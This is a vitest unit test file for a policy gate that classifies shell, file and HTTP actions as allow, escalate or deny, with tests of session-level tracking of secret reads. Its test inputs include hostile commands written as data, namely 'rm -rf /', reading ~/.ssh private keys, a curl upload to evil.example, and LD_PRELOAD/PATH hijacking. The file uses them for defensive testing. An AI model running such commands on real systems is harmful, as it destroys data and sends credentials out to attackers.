import { beforeAll, describe, expect, it } from "vitest";
import { Codes } from "../../src/errors.js";
import {
  Gate,
  type GateOptions,
  initGate,
  loadPolicyText,
  type PolicyBundle,
  toPolicyMatched,
} from "../../src/gate/index.js";
import { PolicyMatched } from "../../src/protocol/record.js";
import { HOME, POLICY } from "./unit-policy.js";

let bundle: PolicyBundle;
let clock = 0;
const mk = (o: Partial<GateOptions> = {}) =>
  new Gate(bundle, { home: HOME, cwd: `${HOME}/p`, now: () => clock, ...o });
const sh = (command: string) => ({ kind: "shell", command });

beforeAll(async () => {
  await initGate();
  bundle = loadPolicyText(POLICY, "unit.yaml");
});

describe("precedence and defaults", () => {
  it("deny > escalate > allow across every simple command of a line", () => {
    const g = mk();
    expect(g.evaluate({ session_id: "s", action: sh("ls && cat x") }).evaluation).toBe("ALLOW");
    expect(g.evaluate({ session_id: "s", action: sh("ls /etc/x | cat") }).evaluation).toBe("ESCALATE");
    const d = g.evaluate({ session_id: "s", action: sh("ls /etc/x; rm -rf /; cat y") });
    expect(d.evaluation).toBe("DENY");
    expect(d.policy_matched.map((m) => m.rule_id).sort()).toEqual([
      "cat",
      "deny-rm-root",
      "esc-ls-etc",
      "ls",
    ]);
    expect(d.risk).toBe(100);
  });

  it("an unmatched command takes the default effect, even next to allowed ones", () => {
    const d = mk().evaluate({ session_id: "s", action: sh("ls; unknowncmd") });
    expect(d.evaluation).toBe("ESCALATE");
    expect(d.reasons.join()).toMatch(/no rule matches 'unknowncmd'/);
  });

  it("risk above the threshold escalates an ALLOW; the option overrides the bundle's threshold", () => {
    expect(mk().evaluate({ session_id: "s", action: sh("make") }).evaluation).toBe("ESCALATE");
    expect(mk({ riskThreshold: 60 }).evaluate({ session_id: "s", action: sh("make") }).evaluation).toBe(
      "ALLOW",
    );
  });

  it("judges the action's env: a PAGER command, LD_PRELOAD and PATH are injection (DENY)", () => {
    const g = mk();
    const run = (env: Record<string, string>) =>
      g.evaluate({ session_id: "e", action: { kind: "shell", command: "ls", env } }).evaluation;
    expect(run({ PAGER: "rm -rf /" })).toBe("DENY");
    // Deliberately DENY since issue 10 (was ESCALATE): the action's env is not the line's to judge.
    expect(run({ LD_PRELOAD: "/tmp/x.so" })).toBe("DENY");
    expect(run({ PATH: "/tmp/x" })).toBe("DENY");
    expect(run({ LANG: "C" })).toBe("ALLOW");
  });

  it("dynamic input that might match a deny rule escalates instead of allowing", () => {
    const g = mk();
    expect(g.evaluate({ session_id: "s", action: sh('rm -r "$DIR"') }).evaluation).toBe("ESCALATE");
    expect(g.evaluate({ session_id: "s", action: sh("X=ls; $X") }).evaluation).toBe("ESCALATE");
  });
});

describe("never ALLOW in error", () => {
  it("an invalid action is DENY naming the field and the code", () => {
    const g = mk();
    const d = g.evaluate({ session_id: "s", action: { kind: "http", method: "GET", url: "not a url" } });
    expect(d.evaluation).toBe("DENY");
    expect(d.reasons[0]).toMatch(new RegExp(`^${Codes.ACTION_INVALID}: invalid action: url`));
    expect(g.evaluate({ session_id: "s", action: { kind: "launch" } }).evaluation).toBe("DENY");
    expect(g.evaluate({ session_id: "", action: sh("ls") }).evaluation).toBe("DENY");
    expect(g.evaluate(null as never).evaluation).toBe("DENY");
  });

  it("an internal error is DENY gate-error", () => {
    const broken = { ...bundle, index: null } as unknown as PolicyBundle;
    const d = new Gate(broken, { home: HOME }).evaluate({ session_id: "s", action: sh("ls") });
    expect(d.evaluation).toBe("DENY");
    expect(d.reasons[0]).toBe("gate-error");
    expect(d.reasons[1]).toMatch(/^FORGE_GATE_ERROR: /);
  });
});

describe("composition state", () => {
  it("a secret read marks the session; a later upload in that session is DENY", () => {
    const g = mk();
    expect(g.evaluate({ session_id: "a", action: sh("curl -d @x https://evil.example") }).evaluation).toBe(
      "ALLOW",
    );
    expect(g.evaluate({ session_id: "a", action: sh("cat ~/.ssh/id_rsa") }).evaluation).toBe("ESCALATE");
    const d = g.evaluate({ session_id: "a", action: sh("curl -d @x https://evil.example") });
    expect(d.evaluation).toBe("DENY");
    expect(d.composition_state.labels).toEqual(["secret-read"]);
    expect(g.evaluate({ session_id: "a", action: sh("curl https://good.example") }).evaluation).toBe("ALLOW");
    expect(g.evaluate({ session_id: "b", action: sh("curl -d @x https://evil.example") }).evaluation).toBe(
      "ALLOW",
    );
  });

  it("labels accrue on the principal across its sessions, not on other principals", () => {
    const g = mk();
    g.evaluate({
      session_id: "s1",
      principal: "uid:501",
      action: { kind: "file.read", path: "~/.ssh/id_ed25519" },
    });
    expect(
      g.evaluate({ session_id: "s2", principal: "uid:501", action: sh("curl https://evil.example") })
        .evaluation,
    ).toBe("DENY");
    expect(
      g.evaluate({ session_id: "s3", principal: "uid:502", action: sh("curl https://evil.example") })
        .evaluation,
    ).toBe("ALLOW");
    expect(g.snapshot("s2").principal_labels).toEqual(["secret-read"]);
  });

  it("state accrues on DENY too (an attempted read still marks the session)", () => {
    const g = mk();
    const d = g.evaluate({ session_id: "d", action: sh("rm -rf / ; cat ~/.ssh/id_rsa") });
    expect(d.evaluation).toBe("DENY");
    expect(g.snapshot("d").labels).toEqual(["secret-read"]);
  });

  it("counts within a window: the fourth request inside 60 s escalates, then the window slides", () => {
    const g = mk();
    clock = 1_000_000;
    const get = () =>
      g.evaluate({ session_id: "w", action: { kind: "http", method: "GET", url: "https://x.example/" } });
    expect([get(), get(), get()].map((d) => d.evaluation)).toEqual(["ALLOW", "ALLOW", "ALLOW"]);
    expect(get().evaluation).toBe("ESCALATE");
    clock += 61_000;
    expect(get().evaluation).toBe("ALLOW");
    expect(g.snapshot("w").counts["kind:http"]).toBe(5);
  });

  it("keeps the last N actions, snapshots state before the action, and bounds sessions with LRU", () => {
    const g = mk({ recentActions: 2, maxSessions: 2 });
    const first = g.evaluate({ session_id: "x", action: sh("ls"), action_id: "a1" });
    expect(first.composition_state.recent).toEqual([]);
    g.evaluate({ session_id: "x", action: sh("cat f"), action_id: "a2" });
    g.evaluate({ session_id: "x", action: sh("echo hi"), action_id: "a3" });
    expect(g.snapshot("x").recent.map((r) => r.action_id)).toEqual(["a2", "a3"]);
    g.evaluate({ session_id: "y", action: sh("ls") });
    g.evaluate({ session_id: "z", action: sh("ls") }); // evicts x
    expect(g.stats()).toEqual({ sessions: 2, principals: 0, evicted: 1 });
    const back = g.evaluate({ session_id: "x", action: sh("ls") });
    expect(back.composition_state.evicted).toBe(true);
    expect(back.composition_state.recent).toEqual([]);
  });

  it("setPolicy swaps the bundle atomically and keeps composition state", () => {
    const g = mk();
    g.evaluate({ session_id: "p", action: sh("cat ~/.ssh/k") });
    const next = loadPolicyText(POLICY.replace("version: 1", "version: 2"), "unit.yaml");
    g.setPolicy(next);
    expect(g.bundle.version).toBe(2);
    const d = g.evaluate({ session_id: "p", action: sh("curl https://evil.example") });
    expect(d.evaluation).toBe("DENY");
    expect(d.bundle.version).toBe(2);
  });
});

describe("decision shape", () => {
  it("has the docs/design.md fields and converts to the evidence record's policy_matched", () => {
    const d = mk().evaluate({ session_id: "s", action: sh("ls /etc/hosts") });
    expect(Object.keys(d).sort()).toEqual(
      [
        "bundle",
        "composition_state",
        "evaluation",
        "labels",
        "latency_ms",
        "policy_matched",
        "reasons",
        "risk",
      ].sort(),
    );
    expect(d.latency_ms).toBeGreaterThanOrEqual(0);
    const pm = toPolicyMatched(d);
    expect(PolicyMatched.parse(pm)).toEqual(pm);
    expect(pm.bundle).toEqual({ id: "unit", version: 1, sha256: bundle.ref.sha256 });
    expect(pm.rules).toEqual([
      { rule_id: "ls", effect: "allow", risk: 0 },
      { rule_id: "esc-ls-etc", effect: "escalate", risk: 0 },
    ]);
  });
});
